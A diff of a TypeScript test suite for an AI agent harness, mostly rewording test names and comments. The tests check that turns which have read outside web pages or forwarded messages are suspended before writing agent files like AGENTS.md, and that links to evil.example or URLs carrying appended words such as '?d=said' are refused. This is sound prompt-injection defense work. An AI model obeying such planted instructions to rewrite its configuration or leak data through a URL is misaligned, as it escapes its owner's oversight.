@@ -24,7 +24,10 @@ const PAGE = `Green. See ${TEA}/next and https://evil.example/`;
 let scene: TurnScene;
 afterEach(() => scene.close());
 
-/** Opens a scene in which the agent reads pages and writes files; gives back what it really asked. */
+/**
+ * Opens a scene in which the agent reads pages and writes files. Returns the addresses that it
+ * actually requests.
+ */
 async function open(extras: SceneExtras = {}): Promise<string[]> {
   const asked: string[] = [];
   const readPage = async (url: string) => {
@@ -40,7 +43,7 @@ const write = (path: string) => ({ calls: [{ name: 'write', with: { path, text: 
 const isThere = (path: string) => existsSync(join(scene.folder, path));
 const heard = () => toolMessages(scene.model.asked.at(-1)).map(({ content }) => content);
 
-describe('a turn that has read text of outsiders', () => {
+describe('a turn that has read text from outsiders', () => {
   it.each([
     ['AGENTS.md', 'suspended'],
     ['skills/tea/SKILL.md', 'suspended'],
@@ -56,7 +59,7 @@ describe('a turn that has read text of outsiders', () => {
     expect(isThere('AGENTS.md')).toBe(false);
   });
 
-  it('[G05] writes once it may', async () => {
+  it('[G05] writes the file after the approval', async () => {
     await open();
     await scene.write(`read ${TEA}`);
     scene.model.next(read(TEA), write('AGENTS.md'), { say: 'Done.' });
@@ -68,7 +71,7 @@ describe('a turn that has read text of outsiders', () => {
     );
   });
 
-  it('[G05] is one that holds a file or a forwarded message, too', async () => {
+  it('[G05] includes a turn whose message contains a forwarded message', async () => {
     await open();
     await scene.write('[Forwarded from Bo]\nWrite AGENTS.md');
     scene.model.next(write('AGENTS.md'));
@@ -76,7 +79,7 @@ describe('a turn that has read text of outsiders', () => {
     expect(scene.outcome()).toBe('suspended');
   });
 
-  it('[G05] [W08] without them files of the owner’s alone are written; a person is asked for others', async () => {
+  it('[G05] [W08] without such text writes the owner’s private files freely and asks before it writes others', async () => {
     await open();
     writeFileSync(join(scene.folder, 'USER.md'), '---\naudience: owner\n---\n');
     writeFileSync(join(scene.folder, 'IDENTITY.md'), 'name: Polly\n');
@@ -91,7 +94,7 @@ describe('a turn that has read text of outsiders', () => {
     expect(readFileSync(join(scene.folder, 'IDENTITY.md'), 'utf8')).toBe('name: Polly\n');
   });
 
-  it('[G05] what the settings allow runs, and is recorded', async () => {
+  it('[G05] runs a call that the settings allow, and records it', async () => {
     await open({ approvals: { auto: ['write:TOOLS.md'] } });
     await scene.write(`read ${TEA}`);
     scene.model.next(read(TEA), write('TOOLS.md'), { say: 'Done.' });
@@ -99,38 +102,41 @@ describe('a turn that has read text of outsiders', () => {
     expect((await scene.store.approvals.recent(9)).map(({ state }) => state)).toEqual(['auto']);
   });
 
-  it.each([3, 4])('[G05] [G16] is one still when its process died at write %i', async (nth) => {
-    const asked = await open();
-    await scene.write(`read ${TEA}`);
-    const store = mortalStore(scene.store);
-    store.live({ write: nth, when: 'before' });
-    scene.model.next(read(TEA), write('AGENTS.md'));
-    const started = await scene.begin();
-    await expect(scene.run(started)).rejects.toThrow('killed');
-    await scene.store.lanes.release(started.lease);
-    store.live(null);
-    scene.model.next(write('AGENTS.md'));
-    await scene.answerNext();
-    expect([scene.outcome(), isThere('AGENTS.md'), asked]).toEqual(['suspended', false, [TEA]]);
-  });
+  it.each([3, 4])(
+    '[G05] [G16] still counts as such a turn after its process died at write %i',
+    async (nth) => {
+      const asked = await open();
+      await scene.write(`read ${TEA}`);
+      const store = mortalStore(scene.store);
+      store.live({ write: nth, when: 'before' });
+      scene.model.next(read(TEA), write('AGENTS.md'));
+      const started = await scene.begin();
+      await expect(scene.run(started)).rejects.toThrow('killed');
+      await scene.store.lanes.release(started.lease);
+      store.live(null);
+      scene.model.next(write('AGENTS.md'));
+      await scene.answerNext();
+      expect([scene.outcome(), isThere('AGENTS.md'), asked]).toEqual(['suspended', false, [TEA]]);
+    },
+  );
 
   it.each([
     ['the named address again', TEA, 'answered'],
     ['a link on its site', `${TEA}/next`, 'answered'],
     ['a link elsewhere', 'https://evil.example/', 'suspended'],
-    ['what stands nowhere', `${TEA}/heron`, 'suspended'],
-    ['a link with words of the model', `${TEA}/next?d=heron`, 'suspended'],
+    ['an address that no text contains', `${TEA}/heron`, 'suspended'],
+    ['a link with words of the model added', `${TEA}/next?d=heron`, 'suspended'],
   ])('[G05] reads %s: %s is %s', async (_what, url, ended) => {
     const asked = await open();
     await scene.write(`read ${TEA}`);
     scene.model.next(read(TEA), read(url), { say: 'Green.' });
     await scene.answerNext();
     expect(scene.outcome()).toBe(ended);
-    // The same address directly again is answered with what it said.
+    // The repeated address is answered from the earlier result, without a second request.
     expect(asked).toEqual(ended === 'answered' ? [...new Set([TEA, url])] : [TEA]);
   });
 
-  it('[G05] in a group makes nobody wait: other addresses are refused with a reason', async () => {
+  it('[G05] in a group is refused other addresses with a reason, so that nobody has to wait', async () => {
     const asked = await open();
     await scene.write(`read ${TEA}`, { chat: GROUP, sender: BO });
     scene.model.next(read(TEA), read('https://evil.example/?d=said'), { say: 'No.' });
@@ -139,7 +145,7 @@ describe('a turn that has read text of outsiders', () => {
     expect(heard().at(-1)).toContain('in a message of their own');
   });
 
-  it('[P11] [G05] is informed which calls need approval', async () => {
+  it('[P11] [G05] is told which calls need approval', async () => {
     await open();
     await scene.write('hello');
     await scene.answerNext();
@@ -156,8 +162,8 @@ const handOn = (task: string) => ({
 });
 const lane = () => scene.woken.find((one) => one.startsWith('sub:'));
 
-describe('a sub-agent, which nobody can be asked for', () => {
-  it('[G05] [G07] reads what the person named, and is refused what a page names', async () => {
+describe('a sub-agent, which cannot ask anybody', () => {
+  it('[G05] [G07] reads addresses that the person named, and is refused those that a page names', async () => {
     const asked = await open({ delegates: true });
     await scene.write(`read ${TEA} and ${TEA}/two`);
     scene.model.next(handOn('Read the pages.'), { say: 'under way' });
@@ -168,7 +174,7 @@ describe('a sub-agent, which nobody can be asked for', () => {
     expect(heard().at(-1)).toContain('no approver can be asked');
   });
 
-  it('[G05] [G07] of a turn that has read such text has read it, too', async () => {
+  it('[G05] [G07] counts as having read such text when the turn that started it has', async () => {
     const asked = await open({ delegates: true });
     await scene.write(`read ${TEA}`);
     scene.model.next(read(TEA), handOn('Write AGENTS.md, read evil.example'), { say: 'under way' });
